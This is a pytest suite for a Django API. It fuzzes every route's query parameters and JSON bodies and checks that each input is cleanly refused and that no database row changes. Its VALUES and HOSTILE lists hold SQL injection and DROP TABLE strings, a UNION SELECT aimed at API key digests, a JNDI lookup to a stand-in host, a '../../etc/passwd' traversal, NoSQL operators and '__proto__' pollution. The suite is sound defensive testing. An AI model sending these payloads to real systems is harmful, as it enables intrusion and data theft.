"""What a partner may send in bad faith, to every route: refused with a place and a code, nothing changed."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import connection, transaction
from drf_spectacular.generators import SchemaGenerator

from tests.api.asking import Partner
from tests.api.permission_world import World, body_for, world
from tests.api.test_bad_requests import reads
from tests.api.test_permissions import ROUTES, answered

__all__ = ["reads", "world"]
pytestmark = pytest.mark.django_db

VALUES = [
    "' OR '1'='1",
    "1; DROP TABLE camptrack_report; --",
    "%27%20UNION%20SELECT%20digest%20FROM%20camptrack_apikey",
    "${jndi:ldap://a.example}",
    "\x00",
    "SY-ALHOL\u200f",
    "\u202eLOHLA-YS",
    "\ud7ff\U0010ffff",
    "x" * 3000,
    "9" * 400,
    "-1",
    "1e400",
    "NaN",
    "[]",
    '{"$gt": ""}',
    "../../etc/passwd",
    "0001-01-01T00:00:00+23:59",
    "10000-01-01",
]
#: words to look for and names of people's making: any text may be asked for, and finds nothing
ANY_TEXT = {"search", "operation", "recipient"}
#: what somebody might sort or filter by to learn it letter by letter
SECRETS = [
    *("ordering", "order_by", "sort", "fields", "reliability", "external_id", "key__digest"),
    *("organisation__grants__user__password", "report__created_by__password__startswith", "webhook_secret"),
]


def contents() -> dict[str, str]:
    """A digest of the rows of each table of ours; a key is noted to be used, which is no change."""
    with connection.cursor() as cursor:
        tables = sorted(
            name
            for name in connection.introspection.table_names(cursor)
            if name.startswith("camptrack_") and name != "camptrack_apikey"
        )
        each = " UNION ALL ".join(
            f"SELECT '{name}', md5(string_agg(t::text, ',' ORDER BY t::text)) FROM {name} t"
            for name in tables
        )
        cursor.execute(each)
        return dict(cursor.fetchall())


def parameters_of(path: str, template: dict[str, Any]) -> set[str]:
    return {each["name"] for each in template["get"].get("parameters", []) if each["in"] == "query"}


def templates(paths: list[str]) -> Iterator[tuple[str, set[str]]]:
    """The addresses of `reads`, each with the parameters that its document names."""
    known = SchemaGenerator().get_schema(public=True)["paths"]
    of = [operations for operations in known.values() if "get" in operations]
    for path, operations in zip(paths, of, strict=True):
        yield path, parameters_of(path, operations)


def test_in_every_parameter(writer: Partner, reads: list[str]) -> None:
    before = contents()
    taken: set[tuple[str, str]] = set()
    for nth, (path, names) in enumerate(templates(reads)):
        for value in VALUES[nth % 3 :: 3]:
            answer = writer.raw("GET", path, query=dict.fromkeys(names, value))
            assert answer.status_code == 400, (path, value, answer.status_code)
            problem = json.loads(answer.content)
            refused = {each["pointer"].removeprefix("?") for each in problem["errors"]}
            assert refused <= names, (path, value, problem)
            assert all(each["code"] for each in problem["errors"])
            taken |= {(name, value) for name in names - refused}
    # Everything wrong is said at once, so what is not named was taken.
    assert {name for name, _value in taken} <= ANY_TEXT | {"round_number", "known_at"}, sorted(
        {name for name, _value in taken}
    )
    assert contents() == before


def test_nobody_sorts_or_filters_by_a_secret(writer: Partner, reads: list[str]) -> None:
    for path, names in templates(reads):
        asked = [name for name in SECRETS if name not in names]
        answer = writer.raw("GET", path, query=dict.fromkeys(asked, "a"))
        codes = {(each["pointer"], each["code"]) for each in json.loads(answer.content)["errors"]}
        assert (answer.status_code, codes) == (400, {(f"?{name}", "unknown_parameter") for name in asked}), (
            path
        )


def leaves(body: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The place of every text and number."""
    within = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    for name, each in within:
        yield from leaves(each, (*before, name))
    if not isinstance(body, dict | list):
        yield before


def with_leaf(body: Any, place: tuple[Any, ...], value: Any) -> Any:
    changed: Any = json.loads(json.dumps(body))
    part = changed
    for name in place[:-1]:
        part = part[name]
    part[place[-1]] = value
    return changed


def deep(levels: int) -> Any:
    found: Any = 1
    for _ in range(levels):
        found = [found]
    return found


HOSTILE: list[Any] = [
    *("\x00", "\u202eright to left", "' OR 1=1; --", "x" * 100_000, "\ud800"),
    *([], {}, deep(90), deep(700), {"$gt": ""}, -1, 2**80, 1e308, True),
]
#: no partner's text or number holds these
NEVER = (b"\\u0000", b"\\ud800", b"password", b"__proto__")
NONE: list[Any] = [[], None, "x", 1]
WRITES = [
    (name, address, method)
    for name, address, view in ROUTES
    for method in sorted(answered(view) & {"POST", "PATCH"})
]


def bodies(body: dict[str, Any]) -> Iterator[bytes]:
    """Each value everywhere at once, and some of them at each place alone."""
    places = list(leaves(body)) if body else []
    for value in HOSTILE:
        changed = body
        for place in places:
            changed = with_leaf(changed, place, value)
        yield json.dumps(changed).encode()
    for nth, place in enumerate(places):
        for value in HOSTILE[nth % 14 :: 14]:
            yield json.dumps(with_leaf(body, place, value)).encode()
    for each in (body | {"password": "x"}, body | {"__proto__": {"admin": True}}, *NONE):
        yield json.dumps(each).encode()
    yield b"[" * 5000 + b"]" * 5000
    yield b'{"a":' * 5000 + b"1" + b"}" * 5000


@pytest.mark.long
def test_in_every_body(world: World) -> None:
    before = contents()
    sent = 0
    for name, address, method in WRITES:
        if name == "imports":
            continue  # takes files, which tests/ingest sends
        path, body = world.path(name, address), body_for(name)
        asking = who_may(world, method, path, body)
        for each in bodies(body):
            check(asking, method, path, each)
            sent += 1
        huge = b'{"title": "' + b"x" * 10 * 1024 * 1024 + b'"}'
        assert asking.raw(method, path, huge).status_code == 413, path
        assert contents() == before, path
    assert sent > 500


def who_may(world: World, method: str, path: str, body: dict[str, Any]) -> Partner:
    """Somebody whom no missing right turns away before the body is read."""
    for asking in (world.own, *world.others.values()):
        place = transaction.savepoint()
        status = asking.raw(method, path, body).status_code
        transaction.savepoint_rollback(place)
        if status not in {403, 404}:
            return asking
    return world.own


def check(asking: Partner, method: str, path: str, body: bytes) -> None:
    """Refused; or taken, and then it is undone: what is changed in the end was changed by a refusal."""
    place = transaction.savepoint()
    answer = asking.raw(method, path, body)
    said = (method, path, body[:200], answer.status_code, answer.content[:300])
    assert answer.status_code < 500, said
    if answer.status_code >= 400:
        assert answer["Content-Type"] == "application/problem+json", said
        problem = json.loads(answer.content)
        assert problem["errors"], said
        assert all(each["code"] and each["pointer"][:1] in {"", "/"} for each in problem["errors"]), said
        transaction.savepoint_commit(place)
    else:
        assert not any(sign in body for sign in NEVER), said
        transaction.savepoint_rollback(place)
